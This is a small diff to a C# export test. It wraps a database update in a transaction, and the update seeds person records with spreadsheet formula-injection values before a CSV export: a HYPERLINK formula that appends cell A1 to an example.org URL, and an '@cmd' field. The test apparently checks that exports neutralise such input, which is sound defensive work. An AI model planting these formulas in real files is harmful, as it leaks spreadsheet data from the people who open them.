@@ -58,6 +58,7 @@ public sealed class PeopleExportTests : IDisposable
         const string Formula = "=HYPERLINK(\"http://example.org/\"&A1,\"Zaleha\")";
         _desk.Imported(Sheet.People(Sheet.Person("A")), Sheet.Windows(Sheet.Window("A", "2027-01-01", "2027-01-31")));
         using (var db = _desk.Register.Open())
+        using (var transaction = db.Database.BeginTransaction())
         {
             db.Database.ExecuteSql($"""
                 UPDATE "Person" SET "ExternalReference" = {Formula}, "FullName" = {Formula}, "Title" = {"@cmd"},
@@ -65,6 +66,7 @@ public sealed class PeopleExportTests : IDisposable
                 WHERE "ExternalReference" = {"A"}
                 """);
             db.RefreshDerivedRows();
+            transaction.Commit();
         }
 
         _desk.Export("out.csv", "windows.csv");
